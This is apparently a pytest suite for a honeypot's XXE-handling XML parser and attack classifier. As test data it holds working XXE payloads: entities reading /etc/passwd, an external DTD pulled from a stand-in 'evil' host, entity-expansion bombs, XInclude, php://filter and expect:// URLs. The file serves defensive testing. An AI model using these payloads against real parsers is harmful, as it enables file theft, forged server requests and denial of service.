"""The XXE parser on its own: fake-host answers, recorded network entities, entity caps, and
arbitrary bytes (hypothesis) never reaching the real filesystem or raising."""

from __future__ import annotations

import secrets
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from phantomnet.analyzers.web import classify
from phantomnet.deception.host import FakeHost
from phantomnet.sensors.http.xxe import XmlRefused, fake_path, parse, precheck


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FakeHost]:
    h = FakeHost.load(tmp_path_factory.mktemp("xxe"))
    yield h
    h.close()


def doc_with(url: str) -> bytes:
    return f'<!DOCTYPE a [<!ENTITY e SYSTEM "{url}">]><a>&e;</a>'.encode()


def test_file_entities_read_the_fake_host(host: FakeHost) -> None:
    fs = host.fs("198.51.100.7")
    for url in ("file:///etc/hostname", "/etc/hostname", "file://localhost/etc/hostname",
                "../../../etc/hostname"):  # fmt: skip
        doc = parse(doc_with(url), fs)
        assert doc.root is not None and doc.root.text == host.persona.hostname + "\n", url
        assert doc.files == ["/etc/hostname"] and doc.entities and doc.outbound == []


def test_missing_fake_file_and_real_file_give_an_empty_entity(
    host: FakeHost, tmp_path: Path
) -> None:
    real = tmp_path / "real.txt"
    real.write_text(secret := secrets.token_hex(8))
    for url in (f"file://{real}", str(real), "file:///etc/nonexistent"):
        doc = parse(doc_with(url), host.fs("198.51.100.7"))
        assert doc.root is not None and doc.root.text is None
        assert secret not in etree.tostring(doc.root).decode()


def test_network_schemes_are_recorded_only(host: FakeHost) -> None:
    urls = ["http://198.51.100.1/x", "https://a.example/x", "ftp://a.example/x",
            "gopher://a.example:70/_x", "expect://id", "jar:http://a/x!/y"]  # fmt: skip
    for url in urls:
        assert fake_path(url) is None
        doc = parse(doc_with(url), host.fs("198.51.100.7"))
        assert doc.outbound == [url] and doc.root is not None and doc.root.text is None
    assert fake_path("php://filter/read=convert.base64-encode/resource=index.php") == (
        "/var/www/html/index.php", True)  # fmt: skip


def test_entity_bombs_are_refused_before_parsing() -> None:
    decls = b"".join(b'<!ENTITY a%d "%s">' % (i, (b"&a%d;" % (i - 1)) * 10) for i in range(1, 9))
    with pytest.raises(XmlRefused):
        precheck(b'<!DOCTYPE x [<!ENTITY a0 "ha">' + decls + b"]><x>&a8;</x>")
    with pytest.raises(XmlRefused):
        precheck(b"<!DOCTYPE x [" + b'<!ENTITY e "x">' * 65 + b"]><x/>")
    assert precheck(b'<!DOCTYPE x [<!ENTITY e "small">]><x>&e;</x>') is True
    assert precheck(b"<x>no doctype</x>") is False


def test_classifier_tags_xxe_payloads() -> None:
    xxe = [
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a [<!ENTITY % d SYSTEM "http://evil/x.dtd"> %d;]><a/>',
        '<!DOCTYPE a SYSTEM "http://evil/x.dtd"><a/>',
        '<!DOCTYPE a [<!ENTITY l "lol"><!ENTITY l2 "&l;&l;&l;">]><a>&l2;</a>',
        '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>',
    ]
    for body in xxe:
        assert "http_xxe" in {f.rule for f in classify("POST", "/x", "", body)}, body
    for benign in ("<methodCall><methodName>demo.sayHello</methodName></methodCall>",
                   '<!DOCTYPE html><html><body>entity system</body></html>'):  # fmt: skip
        assert "http_xxe" not in {f.rule for f in classify("POST", "/x", "", benign)}


XMLISH = st.lists(
    st.one_of(
        st.sampled_from([b"<!DOCTYPE a [", b"]>", b"<!ENTITY ", b"% ", b"e ", b"SYSTEM ",
                         b'"file:///etc/passwd"', b'"http://127.0.0.1:9/"', b"&e;", b"%e;",
                         b"<a>", b"</a>", b'"&e;&e;"', b"<?xml version='1.0'?>", b"\x00", b"\xff"]),
        st.binary(max_size=8),
    ),
    max_size=30,
).map(b"".join)  # fmt: skip


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=XMLISH)
def test_any_bytes_parse_or_fail_cleanly(host: FakeHost, data: bytes) -> None:
    doc = parse(data, host.fs("198.51.100.9"))
    assert (doc.root is None) == (doc.error is not None) or doc.error is None
    assert all(not p.startswith("/tmp/") for p in doc.files)
